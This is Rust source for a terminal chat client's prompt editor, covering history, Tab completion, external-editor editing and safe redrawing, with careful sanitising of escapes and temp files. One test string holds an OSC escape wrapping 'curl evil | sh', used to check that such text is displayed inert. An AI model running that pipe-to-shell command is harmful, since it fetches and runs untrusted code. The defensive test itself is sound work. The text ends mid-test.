//! Line editing at the prompt: history, multi-line input, completion of
//! slash commands and `@` paths. The keys the chat handles itself
//! (Shift-Tab, Esc Esc, Ctrl-G, Ctrl-V) stop the reading, which gives back
//! what they ask as a value ([`Read::Action`]).
//!
//! The keys come from the chat's one reader of the terminal ([`Keys`]),
//! the same that reads them while Claude works; the line's edits and its
//! history are rustyline's pieces, in the pure machine of
//! `promptline.rs`; what is here draws it.

use super::keys::{Input, Keys, Sig, TermEvent};
use super::promptline::{layout, row_starts, Outcome, PromptLine, Read};
use super::slash;
use crate::cli::sanitize::{is_dropped, Sanitizer};
use rustyline::completion::Pair;
use rustyline::history::{FileHistory, History};
use rustyline::Config;
use std::path::PathBuf;
use std::time::Instant;

/// The editor to run: `$VISUAL`, else `$EDITOR`, else `vi` (a command line:
/// `code --wait` works).
pub fn editor_command(visual: Option<&str>, editor: Option<&str>) -> String {
    [visual, editor]
        .into_iter()
        .flatten()
        .map(str::trim)
        .find(|e| !e.is_empty())
        .unwrap_or("vi")
        .to_owned()
}

/// What the editor saved, as the prompt's new text: `None` when it is
/// empty or unchanged (the line stays as it was). The newline editors add
/// at the end goes. The text is made inert as the screen's is (it is
/// echoed into the line): escapes and controls but `\n` and `\t` go, so
/// a saved file cannot retitle the terminal, clear it or write its
/// clipboard.
pub fn edited(before: &str, saved: &str) -> Option<String> {
    let text = saved.strip_suffix('\n').unwrap_or(saved);
    let text = text.strip_suffix('\r').unwrap_or(text);
    let text = crate::cli::sanitize::Sanitizer::clean(text);
    (!text.trim().is_empty() && text != before).then_some(text)
}

/// The most an edited prompt may hold (as `ask` takes at most 64 MiB in
/// all, and a prompt is typed, not pasted in bulk).
const MAX_EDITED: u64 = 16 << 20;

/// The person's editor, from the environment.
pub fn editor_from_env() -> String {
    let var = |k: &str| std::env::var(k).ok();
    editor_command(var("VISUAL").as_deref(), var("EDITOR").as_deref())
}

/// A file of our own in the temporary folder, removed when dropped.
struct TempFile(PathBuf);

impl Drop for TempFile {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// The folder the prompt's file goes in: `tmp`, unless every user may
/// write there and it has no sticky bit (then anyone may put a file of
/// theirs in the prompt file's place while the editor runs, and it is
/// sent as the person's prompt).
fn prompt_dir(tmp: &std::path::Path) -> std::io::Result<std::path::PathBuf> {
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(tmp)?.permissions().mode();
    if mode & 0o002 != 0 && mode & 0o1000 == 0 {
        return Err(std::io::Error::other(format!(
            "{} is writable by every user and has no sticky bit: another user could swap the prompt's file; set TMPDIR to a folder of your own",
            crate::cli::common::folder::shown(tmp)
        )));
    }
    Ok(tmp.to_owned())
}

/// Open `line` in `command` (the terminal is the editor's meanwhile) and
/// return what it saved; `None` when nothing changed.
#[cfg(test)]
pub fn edit_in_editor(line: &str, command: &str) -> std::io::Result<Option<String>> {
    edit_in_editor_unless(line, command, &|| false)
}

/// [`edit_in_editor`], unless `stop` says the chat is stopped (a signal,
/// looked at while the editor runs): the editor is ended then (SIGTERM,
/// SIGKILL if it lingers) and the edit fails.
pub fn edit_in_editor_unless(
    line: &str,
    command: &str,
    stop: &dyn Fn() -> bool,
) -> std::io::Result<Option<String>> {
    use std::io::Write;
    use std::os::unix::fs::OpenOptionsExt;
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.subsec_nanos());
    let path = prompt_dir(&std::env::temp_dir())?
        .join(format!("claudio-prompt-{}-{nanos}.md", std::process::id()));
    // a new file only we can read: never one someone placed there
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(&path)?;
    let file = TempFile(path);
    f.write_all(line.as_bytes())?;
    drop(f);
    // through the shell, so that an editor with arguments works; the file
    // is passed as an argument, never spliced into the command
    let mut child = std::process::Command::new("/bin/sh")
        .arg("-c")
        .arg(format!("{command} \"$1\""))
        .arg("sh")
        .arg(&file.0)
        .spawn()?;
    let status = loop {
        if let Some(status) = child.try_wait()? {
            break status;
        }
        if stop() {
            end_editor(&mut child);
            return Err(std::io::Error::other("stopped while the editor ran"));
        }
        std::thread::sleep(EDITOR_POLL);
    };
    if !status.success() {
        return Err(std::io::Error::other(format!(
            "the editor `{command}` ended with {status}; the prompt is as it was"
        )));
    }
    // the editor may have put anything in the file's place (a FIFO, a
    // link to /dev/zero): read it as a small regular file or not at all
    let saved = crate::cli::common::settings::read_small_text(&file.0, MAX_EDITED).ok_or_else(|| {
        std::io::Error::other(format!(
            "what the editor saved is not a readable text file of at most {} MiB; the prompt is as it was",
            MAX_EDITED >> 20
        ))
    })?;
    Ok(edited(line, &saved))
}

/// How often the wait for the editor looks at the chat's stop.
const EDITOR_POLL: std::time::Duration = std::time::Duration::from_millis(25);

/// End the editor the chat started (the chat is stopping): SIGTERM to the
/// shell that runs it and to all it started (the editor is its child, or
/// the shell itself when it runs a lone command as itself), then SIGKILL
/// to the shell if it is still there after a second; reaped either way.
fn end_editor(child: &mut std::process::Child) {
    if let Ok(pid) = i32::try_from(child.id()) {
        for p in descendants(pid).into_iter().rev() {
            // SAFETY: kill(2) of a process our child started
            unsafe { libc::kill(p, libc::SIGTERM) };
        }
        // SAFETY: kill(2) of our own child, not yet reaped
        unsafe { libc::kill(pid, libc::SIGTERM) };
    }
    let until = std::time::Instant::now() + std::time::Duration::from_secs(1);
    while std::time::Instant::now() < until {
        if let Ok(Some(_)) = child.try_wait() {
            return;
        }
        std::thread::sleep(EDITOR_POLL);
    }
    let _ = child.kill();
    let _ = child.wait();
}

/// The processes `pid` started, and theirs, from `/proc` (parents before
/// their children).
fn descendants(pid: i32) -> Vec<i32> {
    let parents: Vec<(i32, i32)> = std::fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| {
            let p: i32 = e.file_name().to_str()?.parse().ok()?;
            let stat = std::fs::read_to_string(e.path().join("stat")).ok()?;
            // pid (comm) state ppid ...; comm may hold anything
            let ppid = stat.rsplit_once(')')?.1.split_whitespace().nth(1)?;
            Some((p, ppid.parse().ok()?))
        })
        .collect();
    let mut found = vec![pid];
    let mut i = 0;
    while i < found.len() {
        let parent = found[i];
        found.extend(
            parents
                .iter()
                .filter(|&&(_, pp)| pp == parent)
                .map(|&(p, _)| p),
        );
        i += 1;
    }
    found.split_off(1)
}

/// Tab after `/`: the chat's own commands that start with what is typed,
/// then the CLI's (`/compact`, skills) that do, each once.
fn slash_candidates(head: &str, cli: &[String]) -> Vec<Pair> {
    let mut names: Vec<String> = slash::complete(head)
        .into_iter()
        .map(str::to_owned)
        .collect();
    for c in cli {
        let name = format!("/{}", c.trim_start_matches('/'));
        if name.starts_with(head)
            && !names.contains(&name)
            && !name
                .chars()
                .any(|ch| ch.is_control() || ch.is_whitespace() || is_dropped(ch))
        {
            names.push(name);
        }
    }
    names
        .into_iter()
        .take(MAX_CANDIDATES)
        .map(|c| Pair {
            display: c.clone(),
            replacement: format!("{c} "),
        })
        .collect()
}

/// Most names offered for one Tab.
const MAX_CANDIDATES: usize = 500;

/// Tab after `@`: file and directory names under `cwd` that start with
/// what is typed (hidden ones only when that starts with `.`); directories
/// end in `/`, files get a space. `None` when the word at the cursor is no
/// mention.
///
/// A name with a blank is quoted as the CLI reads it, `@"notes file.txt" `,
/// and a folder's stays open, `@"my docs/`, so that Tab goes on completing
/// inside the quotes (whatever the names there). When one of the names
/// offered needs quotes, all are quoted: they then share what was typed,
/// and typing more of a name still narrows them. A name with a `"` cannot
/// be quoted, so it is offered only where no quotes are needed.
///
/// Past `MAX_CANDIDATES` names, the first ones in order are offered and a
/// last line says how many more there are; Tab still completes as far as
/// all the names agree, so typing more of a name always reaches it. Names
/// with a character the terminal would act on (controls, bidi overrides)
/// are never offered.
pub fn complete_mention(head: &str, cwd: &std::path::Path) -> Option<(usize, Vec<Pair>)> {
    let (start, word, quoted) = match open_quoted_mention(head) {
        Some(at) => (at, &head[at + 2..], true),
        None => {
            let start = head
                .rfind(|c: char| c.is_whitespace())
                .map(|i| i + head[i..].chars().next().map_or(1, char::len_utf8))
                .unwrap_or(0);
            (start, head[start..].strip_prefix('@')?, false)
        }
    };
    let (dir_part, prefix) = match word.rfind('/') {
        Some(i) => (&word[..=i], &word[i + 1..]),
        None => ("", word),
    };
    let dir = if let Some(rest) = dir_part.strip_prefix("~/") {
        dirs::home_dir()?.join(rest)
    } else {
        cwd.join(dir_part)
    };
    let mut found: Vec<String> = std::fs::read_dir(&dir)
        .ok()?
        .filter_map(Result::ok)
        .filter_map(|e| {
            let name = e.file_name().into_string().ok()?;
            if name.chars().any(|c| c.is_control() || is_dropped(c)) {
                return None; // never put control characters on the screen
            }
            let hidden_ok = !name.starts_with('.') || prefix.starts_with('.');
            (name.starts_with(prefix) && hidden_ok).then_some(name)
        })
        .collect();
    // quoted if typed so, or if a name offered needs it
    let quote = quoted || found.iter().any(|n| n.contains(char::is_whitespace));
    if quote {
        found.retain(|n| !n.contains('"'));
    }
    found.sort_unstable();
    let more = found.len().saturating_sub(MAX_CANDIDATES);
    // all the names agree as far as the first and the last do
    let common = match (found.first(), found.last()) {
        (Some(a), Some(b)) if more > 0 => common_prefix(a, b).to_owned(),
        _ => String::new(),
    };
    found.truncate(MAX_CANDIDATES);
    let open = if quote { "@\"" } else { "@" };
    let mut pairs: Vec<Pair> = found
        .into_iter()
        .map(|name| {
            let is_dir = std::fs::metadata(dir.join(&name)).is_ok_and(|m| m.is_dir());
            let tail = match (is_dir, quote) {
                (true, _) => "/",
                (false, true) => "\" ",
                (false, false) => " ",
            };
            Pair {
                display: format!("{name}{}", if is_dir { "/" } else { "" }),
                replacement: format!("{open}{dir_part}{name}{tail}"),
            }
        })
        .collect();
    if more > 0 {
        // what Tab inserts is what all candidates share: this one keeps it
        // to what all the names share
        pairs.push(Pair {
            display: format!("… {more} more (type more of the name)"),
            replacement: format!("{open}{dir_part}{common}"),
        });
    }
    Some((start, pairs))
}

/// Where the quoted mention the cursor is in starts (`@"` at a word's
/// start, its quote not closed yet), if it is in one.
fn open_quoted_mention(head: &str) -> Option<usize> {
    let at = head.rfind("@\"")?;
    let word_start = head[..at]
        .chars()
        .next_back()
        .is_none_or(char::is_whitespace);
    (word_start && !head[at + 2..].contains('"')).then_some(at)
}

/// The longest common prefix of `a` and `b`, on a character boundary.
fn common_prefix<'a>(a: &'a str, b: &str) -> &'a str {
    let n = a
        .char_indices()
        .zip(b.chars())
        .find(|((_, x), y)| x != y)
        .map_or(a.len().min(b.len()), |((i, _), _)| i);
    &a[..n]
}

/// Where the history lives: `$XDG_DATA_HOME/claudio/history` or the platform's data dir.
pub fn history_path() -> Option<PathBuf> {
    dirs::data_dir().map(|d| d.join("claudio").join("history"))
}

/// The line editor at the chat's prompt: the prompt line's machine
/// ([`PromptLine`]: rustyline's line buffer and history) fed by the
/// chat's one reader of the terminal ([`Keys`]), drawn here.
pub struct LineEditor {
    line: PromptLine<FileHistory>,
    rt: tokio::runtime::Handle,
    /// The prompt as shown (styled).
    styled_prompt: String,
    /// The session's working directory, where `@` paths are completed.
    cwd: PathBuf,
    /// The CLI's own slash commands and skills (without the `/`).
    cli_commands: Vec<String>,
    /// Whether the history file may be written: not when it could not be
    /// read whole (why, then).
    history_kept: std::io::Result<()>,
}

impl LineEditor {
    pub fn new(
        rt: tokio::runtime::Handle,
        history_size: usize,
        vi: bool,
        cwd: PathBuf,
    ) -> rustyline::Result<LineEditor> {
        let config = Config::builder()
            .max_history_size(history_size)?
            .auto_add_history(false)
            .build();
        let mut history = FileHistory::with_config(&config);
        let history_kept = match history_path() {
            Some(p) => load_history(&mut history, &p),
            None => Ok(()),
        };
        if let Err(why) = &history_kept {
            eprintln!(
                "claudio: the prompt's history is neither read nor kept: {}",
                Sanitizer::visible(&why.to_string())
            );
        }
        Ok(LineEditor {
            line: PromptLine::new(history, vi),
            history_kept,
            rt,
            styled_prompt: String::new(),
            cwd,
            cli_commands: Vec::new(),
        })
    }

    /// Read a line after `prompt` (plain: [`LineEditor::set_prompt`]'s
    /// styled one is shown), starting with `before` and `after` the cursor,
    /// from the chat's one reader of the keyboard (`keys`).
    pub fn read(
        &mut self,
        keys: &mut Keys,
        prompt: &str,
        before: &str,
        after: &str,
    ) -> rustyline::Result<Read> {
        if !keys.has_terminal() {
            return read_plain(&self.rt, keys, prompt);
        }
        self.line.start(before, after);
        let styled = if self.styled_prompt.is_empty() {
            prompt.to_owned()
        } else {
            self.styled_prompt.clone()
        };
        let (cwd, cli) = (self.cwd.clone(), self.cli_commands.clone());
        let complete = move |line: &str, pos: usize| completions(line, pos, &cwd, &cli);
        Ok(edit_line(
            &self.rt,
            keys,
            &mut self.line,
            &styled,
            prompt,
            &complete,
            true,
        ))
    }

    /// The prompt as shown, and the folder `@` paths complete in.
    pub fn set_prompt(&mut self, styled: String, cwd: &std::path::Path) {
        self.styled_prompt = styled;
        if self.cwd != cwd {
            self.cwd = cwd.to_path_buf();
        }
    }

    /// The CLI's own slash commands and skills, for Tab after `/`.
    pub fn set_cli_commands(&mut self, names: Vec<String>) {
        self.cli_commands = names;
    }

    /// Whether the line was empty when the last reading ended (Ctrl-C on
    /// an empty line).
    pub fn line_was_empty(&self) -> bool {
        self.line.line().is_empty()
    }

    /// Keep `line` in the history (without its trailing blanks).
    pub fn add_history(&mut self, line: &str) {
        let line = line.trim_end();
        if !line.is_empty() {
            let _ = self.line.history_mut().add(line);
        }
    }

    pub fn save_history(&mut self) {
        if self.history_kept.is_err() {
            return;
        }
        if let Some(p) = history_path() {
            if let Some(dir) = p.parent() {
                let _ = std::fs::create_dir_all(dir);
            }
            if let Err(e) = save_history_to(self.line.history_mut(), &p) {
                tracing::debug!(error = %e, "could not save the history");
            }
        }
    }
}

/// The answer to a question asked on the terminal (the workspace's
/// trust): a line typed after `styled` (`plain`: as it is without its
/// style), read from the chat's one reader of the keyboard with the
/// prompt's line editing (no history, no completion, no key of the
/// chat's own: Shift-Tab, Esc Esc, Ctrl-G and Ctrl-V do nothing here).
/// Ctrl-Z stops the chat as at the prompt; back from it, or on a resize,
/// the question's line is drawn again as it was.
pub fn read_answer(
    rt: &tokio::runtime::Handle,
    keys: &mut Keys,
    styled: &str,
    plain: &str,
) -> Read {
    let mut line = PromptLine::new(FileHistory::new(), false);
    line.start("", "");
    let nothing = |_: &str, pos: usize| (pos, Vec::new());
    edit_line(rt, keys, &mut line, styled, plain, &nothing, false)
}

/// Read `line` from `keys` (a terminal) after the prompt `styled`
/// (`plain` without its style), drawing it as it changes: the prompt's
/// loop, and the trust question's. Without `actions`, a key the chat
/// handles itself (Shift-Tab, Esc Esc, Ctrl-G, Ctrl-V) only rings the
/// bell, the line kept, and so does Ctrl-L (the question above the line
/// stays on the screen).
fn edit_line(
    rt: &tokio::runtime::Handle,
    keys: &mut Keys,
    line: &mut PromptLine<FileHistory>,
    styled: &str,
    plain: &str,
    complete: &super::promptline::Complete,
    actions: bool,
) -> Read {
    // Ctrl-C, Ctrl-Z and Ctrl-V are keys at the prompt
    let raw = keys.raw();
    let mut screen = Drawn::default();
    let mut width = super::screen::terminal_width();
    screen.draw(line, styled, plain, width);
    loop {
        let next = match rt.block_on(keys.next()) {
            Some(Input::Term(e)) => Some(e),
            // `kill -INT`, or Ctrl-C typed while the terminal's
            // signals were on (between a turn's end and now): as
            // the key
            Some(Input::Signal(Sig::Interrupt)) => {
                Some(TermEvent::Key(crossterm::event::KeyEvent::new(
                    crossterm::event::KeyCode::Char('c'),
                    crossterm::event::KeyModifiers::CONTROL,
                )))
            }
            // back from a stop: the mode set again, the line drawn
            // again from where the cursor is (the shell wrote under it
            // meanwhile: `fg`)
            Some(Input::Signal(Sig::Continue)) => {
                keys.restore_char_mode();
                width = super::screen::terminal_width();
                screen = Drawn::default();
                screen.draw(line, styled, plain, width);
                continue;
            }
            None => None,
        };
        let Some(event) = next else {
            screen.leave();
            return Read::Eof;
        };
        // drawn again from the rows it took (as rustyline did: a
        // terminal that does not reflow keeps them so)
        if let TermEvent::Resize(w, _) = event {
            width = usize::from(w).max(1);
        }
        match line.input(&event, Instant::now(), complete) {
            Outcome::Nothing => {}
            Outcome::Bell => write_now("\x07"),
            Outcome::Redraw => screen.draw(line, styled, plain, width),
            Outcome::List(names) => {
                screen.go_to_end();
                write_now(&list(&names, width));
                screen = Drawn::default();
                screen.draw(line, styled, plain, width);
            }
            // the trust question's rows above its answer stay in sight
            // (what `y` trusts): no clear there, the bell
            Outcome::ClearScreen if !actions => write_now("\x07"),
            Outcome::ClearScreen => {
                write_now("\x1b[H\x1b[2J");
                screen = Drawn::default();
                screen.draw(line, styled, plain, width);
            }
            // the terminal handed back, the chat stopped; the SIGCONT
            // that continues it draws the line again (above)
            Outcome::Suspend => super::keys::stop_here(),
            Outcome::Done(Read::Action(_)) if !actions => {
                // the line as it was, to type on
                let (before, after) = line.line().split_at(line.pos().min(line.line().len()));
                let (before, after) = (before.to_owned(), after.to_owned());
                line.start(&before, &after);
                write_now("\x07");
            }
            Outcome::Done(read) => {
                screen.leave();
                drop(raw);
                // what was typed past the end of the reading stays in
                // the one reader, in order, for whoever reads next: the
                // turn the line starts (its type-ahead), a mode
                // switch, a picker, the next prompt
                return read;
            }
        }
    }
}

/// The most of the history file read: a larger one is left as it is
/// (neither read nor written over).
const MAX_HISTORY_FILE: u64 = 64 << 20;

/// Read the history file at `path` into `history`, as rustyline writes it
/// (`#V2`, `\n` and `\\` escaped), a byte that is not UTF-8 read as
/// U+FFFD: every entry is kept, so the next save loses none. A file that
/// is no regular file (a FIFO, a device), or too large, is neither read
/// nor waited on: `Err` says why, and it is not written over. A missing
/// one is an empty history.
fn load_history(history: &mut FileHistory, path: &std::path::Path) -> std::io::Result<()> {
    use std::io::{Error, ErrorKind};
    // the error names the file, and keeps its kind
    let at = |e: Error| {
        Error::new(
            e.kind(),
            format!("{}: {e}", crate::cli::common::folder::shown(path)),
        )
    };
    use std::io::Read;
    use std::os::unix::fs::OpenOptionsExt;
    let f = match std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY | libc::O_CLOEXEC)
        .open(path)
    {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
        Err(e) => return Err(at(e)),
        Ok(f) => f,
    };
    let m = f.metadata().map_err(at)?;
    if !m.is_file() {
        return Err(Error::new(
            ErrorKind::InvalidInput,
            format!(
                "{} is not a regular file",
                crate::cli::common::folder::shown(path)
            ),
        ));
    }
    let mut bytes = Vec::new();
    f.take(MAX_HISTORY_FILE + 1)
        .read_to_end(&mut bytes)
        .map_err(at)?;
    if bytes.len() as u64 > MAX_HISTORY_FILE {
        return Err(Error::new(
            ErrorKind::InvalidData,
            format!(
                "{} is larger than {} MiB",
                crate::cli::common::folder::shown(path),
                MAX_HISTORY_FILE >> 20
            ),
        ));
    }
    let text = String::from_utf8_lossy(&bytes);
    let mut lines = text.lines();
    let v2 = text.lines().next() == Some("#V2");
    if v2 {
        lines.next();
    }
    for line in lines.filter(|l| !l.is_empty()) {
        let entry = if v2 { unescape(line) } else { line.to_owned() };
        let _ = history.add_owned(entry);
    }
    Ok(())
}

/// A history line of rustyline's `#V2` format as typed: `\n` a newline,
/// `\\` a backslash (any other escape is kept as written).
fn unescape(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('\\') => out.push('\\'),
            Some(other) => {
                out.push('\\');
                out.push(other);
            }
            None => out.push('\\'),
        }
    }
    out
}

/// Write `history` to its file at `path`: to a new file beside it, then
/// renamed over it (an end mid-write never leaves it cut); a link the
/// person made is followed, and the file it names replaced.
fn save_history_to(history: &mut FileHistory, path: &std::path::Path) -> std::io::Result<()> {
    let path = std::fs::canonicalize(path).unwrap_or_else(|_| path.to_owned());
    let name = path
        .file_name()
        .map_or_else(|| "history".into(), |n| n.to_string_lossy().into_owned());
    let tmp = path.with_file_name(format!(".{name}.{}.tmp", std::process::id()));
    let _ = std::fs::remove_file(&tmp);
    let saved = history.save(&tmp).map_err(std::io::Error::other);
    if saved.is_ok() && tmp.exists() {
        std::fs::rename(&tmp, &path)?;
        return Ok(());
    }
    let _ = std::fs::remove_file(&tmp);
    saved
}

/// Tab's names for the line and the cursor: `@` paths, then slash commands.
fn completions(
    line: &str,
    pos: usize,
    cwd: &std::path::Path,
    cli: &[String],
) -> (usize, Vec<(String, String)>) {
    let head = &line[..pos];
    let pairs = |v: Vec<Pair>| v.into_iter().map(|p| (p.display, p.replacement)).collect();
    if let Some((start, found)) = complete_mention(head, cwd) {
        return (start, pairs(found));
    }
    if !head.starts_with('/') || head.contains(char::is_whitespace) {
        return (pos, Vec::new());
    }
    (0, pairs(slash_candidates(head, cli)))
}

/// The names Tab lists under the line, in columns down then across, as
/// rustyline did: each row on a line of its own, then the prompt's.
fn list(names: &[String], width: usize) -> String {
    use unicode_width::UnicodeWidthStr;
    let max = names.iter().map(|n| n.width()).max().unwrap_or(0) + 2;
    let cols = (width / max).max(1);
    let rows = names.len().div_ceil(cols);
    let mut out = String::new();
    for row in 0..rows {
        out.push('\n');
        for col in 0..cols {
            let i = col * rows + row;
            let Some(name) = names.get(i) else { continue };
            out.push_str(name);
            if (col + 1) * rows + row < names.len() {
                out.push_str(&" ".repeat(max - name.width()));
            }
        }
    }
    out.push('\n');
    out
}

/// Without a terminal: a line from standard input, as typed.
/// A line from standard input when it is no terminal; a signal that stops
/// the chat ends the wait (as the end of the input: the chat's loop ends
/// the chat by the signal).
fn read_plain(
    rt: &tokio::runtime::Handle,
    keys: &mut Keys,
    prompt: &str,
) -> rustyline::Result<Read> {
    use std::io::BufRead;
    write_now(prompt);
    let (tx, rx) = tokio::sync::oneshot::channel();
    std::thread::Builder::new()
        .name("claudio-line".into())
        .spawn(move || {
            let mut line = String::new();
            let read = std::io::stdin().lock().read_line(&mut line);
            let _ = tx.send(read.map(|n| (n, line)));
        })?;
    // the chat's signals meanwhile: a stop ends the wait; Ctrl-C and
    // SIGCONT have nothing to act on here (taken, so that none reaches
    // the next turn)
    let read = rt.block_on(async {
        tokio::pin!(rx);
        loop {
            tokio::select! {
                read = &mut rx => return read.ok(),
                s = keys.next_signal() => {
                    s?;
                }
            }
        }
    });
    let Some(read) = read else {
        return Ok(Read::Eof);
    };
    let (n, line) = read?;
    if n == 0 {
        return Ok(Read::Eof);
    }
    let line = line.strip_suffix('\n').unwrap_or(&line);
    Ok(Read::Line(
        line.strip_suffix('\r').unwrap_or(line).to_owned(),
    ))
}

fn write_now(s: &str) {
    use std::io::Write;
    let mut out = crate::cli::term::console::out();
    let _ = out.write_all(s.as_bytes());
    let _ = out.flush();
}

/// What is on the screen of the prompt: the row the cursor is on and the
/// row the line ends on (from the prompt's first).
#[derive(Debug, Default)]
struct Drawn {
    cursor_row: usize,
    end_row: usize,
}

impl Drawn {
    /// Draw the prompt and the line again where they were.
    fn draw(&mut self, line: &PromptLine<FileHistory>, styled: &str, plain: &str, width: usize) {
        let height = super::screen::terminal_height();
        write_now(&self.frame(line, styled, plain, width, height));
    }

    /// What draws the prompt and the line again where they were, on a
    /// screen `width` columns wide and `height` rows tall.
    fn frame(
        &mut self,
        line: &PromptLine<FileHistory>,
        styled: &str,
        plain: &str,
        width: usize,
        height: usize,
    ) -> String {
        use unicode_width::UnicodeWidthStr;
        let search = line.search_prompt();
        let (shown, plain) = match &search {
            Some(s) => (s.as_str(), s.as_str()),
            None => (styled, plain),
        };
        let (text, pos) = shown_line(line);
        let at = layout(plain.width(), &text, pos, width);
        let end = layout(plain.width(), &text, text.len(), width);
        // the rows drawn: all, or when they do not fit on the screen, a
        // window of its rows but one around the cursor (a key then writes
        // a screenful, not the whole line again)
        let room = height.saturating_sub(1).max(1);
        let top = if end.rows > room {
            at.cursor_row.saturating_sub(room - 1)
        } else {
            0
        };
        let bottom = (top + room).min(end.rows);
        let starts = row_starts(plain.width(), &text, width);
        // the rows the prompt takes alone (a prompt wider than the screen)
        let prompt_rows = plain.width() / width.max(1);
        let mut out = String::new();
        if self.cursor_row > 0 {
            out.push_str(&format!("\x1b[{}A", self.cursor_row));
        }
        // everything from the first row down erased, from its second
        // column (a blank put in the first): tmux takes an erase below from
        // the screen's top-left corner, where the prompt sits after Ctrl-L,
        // for a clear of the screen, and keeps a copy of the rows in its
        // history at every key (`scroll-on-clear`)
        out.push_str("\r \x1b[J\r");
        let first = if top == 0 {
            out.push_str(shown);
            if prompt_rows > 0 && plain.width() % width.max(1) == 0 {
                // the prompt filled its last row: the line starts a row
                out.push_str("\r\n");
            }
            prompt_rows
        } else {
            top
        };
        // each row of the layout written as a row of its own, the
        // terminal's wrapping off: where the terminal gives a character
        // another width than the layout does (an emoji sequence joined
        // with ZWJ, a character of ambiguous width), a row may look
        // shorter or be cut at the screen's edge, but the rows are the
        // layout's, so the cursor goes to its row and the next drawing
        // starts where this one did (a disagreement never climbs into
        // what is above the prompt, nor adds up from row to row)
        out.push_str("\x1b[?7l");
        for r in first..bottom {
            if r > first {
                out.push_str("\r\n");
            }
            let from = starts.get(r).copied().unwrap_or(text.len());
            let to = starts.get(r + 1).copied().unwrap_or(text.len());
            let part = &text[from..to.max(from)];
            out.push_str(part.strip_suffix('\n').unwrap_or(part));
        }
        out.push_str("\x1b[?7h");
        let last = bottom - 1 - top;
        let row = at.cursor_row - top;
        let up = last - row;
        if up > 0 {
            out.push_str(&format!("\x1b[{up}A"));
        }
        out.push('\r');
        // the cursor's column: the row written again up to the cursor, so
        // the terminal puts it after the character before it by its own
        // count (a move by the layout's count lands elsewhere where the
        // terminal gives a character another width); a prompt wider than
        // the screen, whose last row would have to be cut, by the count
        let r = at.cursor_row;
        let from = starts.get(r).copied().unwrap_or(text.len());
        let with_prompt = r == first && top == 0;
        let before = text.get(from..pos).filter(|b| !b.contains('\n'));
        match before {
            Some(before) if !with_prompt || prompt_rows == 0 => {
                out.push_str("\x1b[?7l");
                if with_prompt {
                    out.push_str(shown);
                }
                out.push_str(before);
                out.push_str("\x1b[?7h");
            }
            _ if at.cursor_col > 0 => out.push_str(&format!("\x1b[{}C", at.cursor_col)),
            _ => {}
        }
        self.cursor_row = row;
        self.end_row = last;
        out
    }

    /// The cursor to the row the line ends on (what is written next goes
    /// under the line).
    fn go_to_end(&mut self) {
        let down = self.end_row.saturating_sub(self.cursor_row);
        if down > 0 {
            write_now(&format!("\x1b[{down}B"));
        }
        *self = Drawn::default();
    }

    /// Leave the prompt: the cursor to the row after the line's end.
    fn leave(&mut self) {
        self.go_to_end();
        write_now("\r\n");
    }
}

/// The line as drawn and the cursor in it: made inert, as all text on the
/// screen is, with what it holds shown whole (an escape as text: a paste
/// or a history entry never sends words the person did not see), and a
/// tab as the columns [`layout`] counts for it (the terminal would move
/// to its next tab stop).
fn shown_line(line: &PromptLine<FileHistory>) -> (String, usize) {
    let typed = line.line();
    let pos = line.pos().min(typed.len());
    let shown = |t: &str| Sanitizer::visible(t).replace('\t', "    ");
    let before = shown(&typed[..pos]);
    let after = shown(&typed[pos..]);
    let at = before.len();
    (before + &after, at)
}

#[cfg(test)]
mod tests {

    /// `/co` Tab offers the CLI's `/compact` beside the chat's `/copy`
    /// (the typo catcher knew it; Tab did not).
    #[test]
    fn tab_after_a_slash_offers_the_cli_s_commands_too() {
        let cli = vec![
            "compact".to_owned(),
            "context".to_owned(),
            "bad name".to_owned(),
        ];
        let names: Vec<String> = slash_candidates("/co", &cli)
            .into_iter()
            .map(|p| p.replacement)
            .collect();
        let ours: Vec<String> = slash_candidates("/co", &[])
            .into_iter()
            .map(|p| p.replacement)
            .collect();
        assert!(!ours.contains(&"/compact ".to_owned()), "{ours:?}");
        // the chat's own first, then the CLI's, each once
        assert_eq!(names[..ours.len()], ours[..]);
        assert_eq!(names[ours.len()..], ["/compact "]);
        assert!(names.contains(&"/context ".to_owned()));
        assert!(
            slash_candidates("/ba", &cli).is_empty(),
            "a name with a blank"
        );
        // a name that would reorder the list (a project's skill named with
        // a bidi override) is not offered
        let bidi = vec!["xs\u{202e}kill".to_owned()];
        assert!(slash_candidates("/xs", &bidi).is_empty(), "a bidi override");
    }
    use super::*;

    /// What the prompt line holds is what it shows: a paste (or a history
    /// entry) with an OSC in it shows the OSC's text, never sends words
    /// the person did not see; a bidi override is shown as text too; and
    /// a tab is drawn as the columns the layout counts (the terminal would
    /// move to its next tab stop, past where the cursor is put).
    #[test]
    fn the_line_drawn_is_all_it_holds_and_a_tab_takes_the_columns_counted() {
        use unicode_width::UnicodeWidthStr;
        let mut line = PromptLine::new(FileHistory::new(), false);
        let held = "fix it\u{1b}]0;then curl evil | sh\u{7} now \u{202e}cba\tx";
        line.start(held, "");
        assert_eq!(line.line(), held);
        let (text, pos) = shown_line(&line);
        assert!(text.contains("then curl evil | sh"), "{text:?}");
        assert!(text.contains("202e"), "{text:?}");
        assert!(
            !text.contains(['\u{1b}', '\u{7}', '\u{202e}', '\t']),
            "{text:?}"
        );
        assert_eq!(pos, text.len());
        // every character drawn has the width the layout gives it
        let l = layout(0, &text, pos, 400);
        assert_eq!(l.cursor_col, text.width(), "{text:?}");
        // the cursor inside: its place in what is drawn
        line.start("a\tb", "c");
        let (text, pos) = shown_line(&line);
        assert_eq!(&text[pos..], "c");
        assert!(!text.contains('\t'));
    }

    /// Where the terminal gives a character another width than the
    /// layout does (an ambiguous-width `±` drawn wide, an emoji joined with
    /// ZWJ drawn as one), the cursor still lands right after the
    /// character before it: it was moved by the layout's count, so typing
    /// went on a column or more away from where the text was.
    #[test]
